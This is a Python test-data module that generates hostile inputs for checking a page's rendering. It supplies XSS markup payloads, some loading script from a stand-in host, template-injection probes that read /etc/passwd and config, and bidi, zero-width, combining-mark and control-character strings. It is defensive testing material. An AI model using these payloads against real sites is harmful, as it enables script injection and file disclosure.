"""Messages that want to do harm to the page on which they are read: markup, directions, walls of signs, unseen letters."""

from __future__ import annotations

import random
from collections.abc import Callable

Make = Callable[[random.Random], str]

RUN = "window.ran=(window.ran||0)+1"
FAR = "https://evil.invalid"

MARKUP = (
    f"<script>{RUN}</script>",
    f'"><script src="{FAR}/x.js"></script>',
    f'<img src="{FAR}/x.png" onerror="{RUN}">',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    f'</p></article></section></main><script>{RUN}</script><p class="by">Max wrote',
    f"</textarea></template></title><img src=x onerror={RUN}>",
    f'<iframe srcdoc="<script>parent.ran=1</script>" src="javascript:{RUN}"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={FAR}"><base href="{FAR}/">',
    f'<link rel="stylesheet" href="{FAR}/x.css"><style>@import url({FAR}/y.css); * {{ display: none }}</style>',
    f'<form action="{FAR}"><input name="csrf" autofocus onfocus={RUN}></form>',
    f'<a href="javascript:{RUN}">link</a> <object data="{FAR}"></object>',
    f"<!--<img src=--><img src=x onerror={RUN}//><![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E",
    f"{{{{ 7 * 7 }}}} {{% include '/etc/passwd' %}} {{{{ config }}}} ${{{RUN}}} `{RUN}`",
    f"' onmouseover='{RUN}' x='\" onfocus=\"{RUN}\" autofocus tabindex=1 \"",
    "{n} {name} %(name)s %s {0} {__class__}",
    f"data:text/html,<script>{RUN}</script> //evil.invalid/x \\\\evil.invalid\\x",
)

TURNS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2063\ufe0f"
STACKED = "\u0300\u0301\u0303\u0308\u0323\u0330\u035c\u0489\u0e47\u0941\u17d2"
ODD = "\x01\x07\x08\x0b\x0c\x1b\x7f\x85\u2028\u2029\ufffe\uffff\U000e0041\U000f0000"


def hostile() -> tuple[Make, ...]:
    """Return the makers of such messages, one for each kind."""
    return (_markup, _turned, _unseen, _stacked, _wall, _tall, _odd, _mixed)


def _markup(dice: random.Random) -> str:
    return dice.choice(MARKUP)


def _turned(dice: random.Random) -> str:
    return "".join(dice.choice(TURNS) + word for word in "Max wrote this she is fine nothing here close".split())


def _unseen(dice: random.Random) -> str:
    return "".join(letter + dice.choice(UNSEEN) * dice.randint(0, 40) for letter in "please help me now")


def _stacked(dice: random.Random) -> str:
    return "".join(letter + "".join(dice.choices(STACKED, k=dice.randint(5, 60))) for letter in "look at me")


def _wall(dice: random.Random) -> str:
    return dice.choice(("W", "ក្ត", "ख्", "﷽", "👩\u200d👩\u200d👧", "م")) * (4096 // dice.randint(3, 6))


def _tall(dice: random.Random) -> str:
    return "a" + "\n" * dice.randint(500, 4000) + "b"


def _odd(dice: random.Random) -> str:
    return "".join(dice.choices(ODD, k=60)) + "end"


def _mixed(dice: random.Random) -> str:
    makers = (_markup, _turned, _unseen, _stacked, _odd)
    return "\n".join(dice.choice(makers)(dice) for _ in range(4))[:4096]
